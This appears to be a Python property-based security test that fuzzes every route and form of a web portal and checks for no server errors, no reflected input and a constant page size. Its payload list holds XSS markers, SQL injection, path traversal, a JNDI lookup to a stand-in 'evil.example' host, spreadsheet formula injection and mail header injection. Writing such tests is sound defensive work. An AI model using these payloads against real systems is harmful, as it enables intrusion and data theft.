"""Every route and every form of the portal, given what nobody expects.

The routes are the application's own table; the forms are read from its own pages. Whatever is sent:
no failure, nothing of it comes back as a part of a page, and every page has the one size.
"""

import asyncio
import os
import re
from collections.abc import AsyncGenerator, Mapping, Sequence
from pathlib import Path
from urllib.parse import quote_plus

import httpx
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from starlette.routing import Route

from deploy.paging import portal_of
from services.portal.views import View
from services.web.application import Application
from services.web.body_limit import LARGEST_BODY
from services.web.pages import STEP
from services.web.rates import Rate
from tests.integration.portal.forms import Form, forms_on
from tests.integration.portal.test_every_route import require_headers
from tests.servers.her_page import A_BROWSER, PAGE, Reader, a_reader, code_for
from tests.servers.temporal_dev import RestartableServer
from tests.stories.cast import ada
from tests.stories.engine import a_house
from tests.stories.library import OPENED
from tests.stories.story import Story, at, at_any_hour
from workflows.parties import Channel

IS_FULL = os.environ.get("DUECOURSE_CAMPAIGN") == "full"
EXAMPLES = 3_000 if IS_FULL else 24
OFTEN = Rate(name="anything", each="1000000 per minute", all="1000000 per minute")
STORY = at_any_hour(
    Story(
        name="hostile",
        opened_at=OPENED,
        parties=(ada(channel=Channel.NEUTRAL_MAIL),),
        steps=(),
        until=at("2040-01-10", 8),
    )
)
TAG = "<zqx"
MARKERS = (f"{TAG} onload=zqx()>", f'">{TAG}>', f"'>{TAG}>", f"</textarea>{TAG}>", "{{zqx*7}}")
NASTY = (
    *MARKERS,
    "\x00",
    "\x1b[2J\x07",
    "\u202etxt.exe\u2066",
    "\u200f\u200e\ufeff\u2028",
    "\ud83d\ude00" * 40,
    "ก็็็็็" * 50,
    "\u0130\u0131\u017f\u212a",
    "'; DROP TABLE facts; --",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "9" * 400,
    "-1",
    "9999-12-31",
    "0001-01-01",
    "2040-02-30",
    "24:00",
    "12:00+25:00",
    "a@x.org>\r\nRCPT TO:<evil@example.org>",
    "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nAAAA\n-----END PGP PUBLIC KEY BLOCK-----",
    "x" * 70_000,
)
TYPES = (
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-16",
    "multipart/form-data; boundary=zqx",
    "multipart/form-data",
    "application/json",
    "text/plain",
    "\xff",
    "",
)

TOKENS = ("form", "command")
FILLED_IN: tuple[list[str], ...] = ([f"\x07{marker}" for marker in MARKERS[:2]], [], [f"{TAG}>"])
"""What every field of every form is filled in with in turn: twice, not at all, once."""

texts = st.one_of(
    st.builds("".join, st.tuples(st.sampled_from(NASTY), st.sampled_from(MARKERS))),
    st.text(max_size=60),
    st.just(""),
)
keeps_what_stands_there = st.none()
changes = st.dictionaries(
    st.one_of(st.integers(2, 11), st.integers(0, 11)),
    st.one_of(keeps_what_stands_there, st.lists(texts, max_size=3)),
    max_size=4,
)
bodies = st.one_of(
    st.binary(max_size=80),
    st.sampled_from([b"%FF%FE=%80", b"&&&;;==", b"form", b"a=" * 300, b"%", b"form=%00&form=%00"]),
    st.just(b"form=" + b"a" * LARGEST_BODY),
)


class Attacker:
    """Somebody with her code and her browser, who sends what no browser would."""

    def __init__(self, app: Application, code: str, reader: Reader) -> None:
        self._code = code
        self._reader = reader
        table = [x for x in app.routes if isinstance(x, Route)]
        self.posts = sorted(x.path for x in table if "POST" in (x.methods or ()))
        self.gets = sorted(x.path for x in table if "GET" in (x.methods or ()))

    async def every_form(self) -> dict[str, Form]:
        """The forms of all pages, by where they lead."""
        found: dict[str, Form] = {}
        await self._reader.look()
        found |= {form.action: form for form in forms_on(self._reader.shown)}
        await self._reader.send("/begin")
        found |= {form.action: form for form in forms_on(self._reader.shown)}
        for view in View:
            await self.come_back(view)
            found |= {form.action: form for form in forms_on(self._reader.shown)}
            if view is View.CHOICES:
                await self._go_on("/choices")
                found |= {form.action: form for form in forms_on(self._reader.shown)}
            if view is View.PAUSE:
                await self._go_on("/pause", until="2040-03-01")
                await self.come_back(view)
                found |= {form.action: form for form in forms_on(self._reader.shown)}
        return found

    @property
    def shown(self) -> str:
        """The page that is open."""
        return self._reader.shown

    async def come_back(self, view: View) -> None:
        """Open her page if it is not open, and look at something."""
        if 'action="/not-safe"' not in await self._reader.look():
            await self._reader.sign_in(self._code)
        await self._reader.send("/view", view=view.value)

    async def _go_on(self, path: str, **fields: str) -> None:
        form = next(x for x in forms_on(self._reader.shown) if x.action == path)
        await self._reader.send(path, **{**form.fields, **fields, "form": form.fields["form"]})

    async def send(
        self, path: str, body: bytes, headers: Mapping[str, str]
    ) -> tuple[httpx.Response, httpx.Response]:
        """Send anything; gives the answer, and what is shown after it."""
        sent = [(name.encode(), value.encode("latin-1")) for name, value in headers.items()]
        answer = await self._reader.client.post(path, content=body, headers=sent)
        return answer, await self._reader.client.get("/")

    async def look_at(self, path: str, headers: Mapping[str, str]) -> httpx.Response:
        """Look at an address with any headers."""
        return await self._reader.client.get(path, headers=headers)


def require_harmless(answer: httpx.Response) -> None:
    """No failure, nothing that was sent as a part of the page, the headers, and the one size."""
    assert answer.status_code < 500, answer.request.url
    require_headers(answer)
    assert TAG not in answer.text
    assert not re.search(r'="[^"]*zqx=', answer.text)
    if answer.headers.get("content-type", "").startswith("text/html"):
        assert len(answer.content) % STEP == 0


def encoded(form: Form, changed: Mapping[int, Sequence[str] | None]) -> bytes:
    """A form with some of its fields left out, filled in otherwise, or sent more than once."""
    pairs: list[tuple[str, str]] = []
    for place, (name, value) in enumerate(form.fields.items()):
        otherwise = changed.get(place)
        pairs += [(name, value)] if otherwise is None else [(name, x) for x in otherwise]
    quoted = (
        f"{quote_plus(name)}={quote_plus(value, errors='surrogatepass')}" for name, value in pairs
    )
    return "&".join(quoted).encode()


def test_no_route_and_no_form_fails_reflects_or_shows_by_its_size_what_was_sent(
    tmp_path: Path, temporal_dev_server: RestartableServer
) -> None:
    with asyncio.Runner() as runner:
        attack = _attack(tmp_path, temporal_dev_server)
        try:
            _attacked(runner, runner.run(anext(attack)))
        finally:
            runner.run(attack.aclose())


def _attacked(runner: asyncio.Runner, attacker: Attacker) -> None:
    forms = runner.run(attacker.every_form())
    assert set(attacker.posts) <= set(forms), "a route that no page leads to"
    for form in forms.values():
        free = [x for x, name in enumerate(form.fields) if name not in TOKENS]
        for filled in FILLED_IN:
            changed = dict.fromkeys(free, filled)
            for answer in runner.run(_try(attacker, form, _seen(form), changed)):
                require_harmless(answer)

    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        derandomize=not IS_FULL,
        suppress_health_check=list(HealthCheck),
        database=None,
    )
    @given(
        path=st.sampled_from(attacker.posts),
        view=st.sampled_from(View),
        changed=changes,
        raw=st.one_of(st.none(), st.none(), st.none(), bodies),
        kind=st.one_of(st.just(TYPES[0]), st.just(TYPES[0]), st.sampled_from(TYPES)),
    )
    def forms_are_harmless(
        path: str, view: View, changed: dict[int, list[str] | None], raw: bytes | None, kind: str
    ) -> None:
        for answer in runner.run(_try(attacker, forms[path], view, changed, raw, kind)):
            require_harmless(answer)

    @settings(max_examples=EXAMPLES // 2, deadline=None, derandomize=not IS_FULL, database=None)
    @given(path=st.sampled_from(attacker.gets), sent=texts)
    def looking_is_harmless(path: str, sent: str) -> None:
        for answer in runner.run(_look(attacker, path, sent)):
            require_harmless(answer)

    forms_are_harmless()
    looking_is_harmless()


def _seen(form: Form) -> View:
    """The view on which a form stands, as far as its address says so."""
    return {
        "/question": View.QUESTION,
        "/choices": View.CHOICES,
        "/change": View.CHANGES,
        "/pause": View.PAUSE,
    }.get(form.action, View.FRONT)


async def _attack(home: Path, server: RestartableServer) -> AsyncGenerator[Attacker]:
    async with a_house(home, server) as house, house.engine(OPENED) as engine:
        case_id = await engine.play(STORY)
        app = portal_of(engine.parts, PAGE, sign_in_rate=OFTEN, requests_rate=OFTEN)
        async with a_reader(app) as reader:
            yield Attacker(app, await code_for(engine.parts, case_id, "p1"), reader)


async def _try(
    attacker: Attacker,
    form: Form,
    view: View,
    changed: Mapping[int, Sequence[str] | None],
    raw: bytes | None = None,
    kind: str = TYPES[0],
) -> tuple[httpx.Response, httpx.Response]:
    await attacker.come_back(view)
    shown = forms_on(attacker.shown)
    fresh = {name: value for each in shown for name, value in each.fields.items()}
    with_tokens = {
        name: fresh.get(name, value) if name in ("form", "command") else value
        for name, value in form.fields.items()
    }
    body = encoded(Form(action=form.action, fields=with_tokens), changed) if raw is None else raw
    return await attacker.send(form.action, body, {**A_BROWSER, "Content-Type": kind})


async def _look(attacker: Attacker, path: str, sent: str) -> tuple[httpx.Response, ...]:
    quoted = quote_plus(sent, errors="surrogatepass")[:8_000]
    printable = sent.encode("ascii", errors="ignore").decode()
    header = "".join(x for x in printable if x.isprintable())[:4_000]
    headers = {"Accept-Language": header, "Cookie": f"__Host-view={header}"}
    return (
        await attacker.look_at(f"{path}?zqx={quoted}", {}),
        await attacker.look_at(f"{path}/{quoted}", {}),
        await attacker.look_at(path, headers),
    )
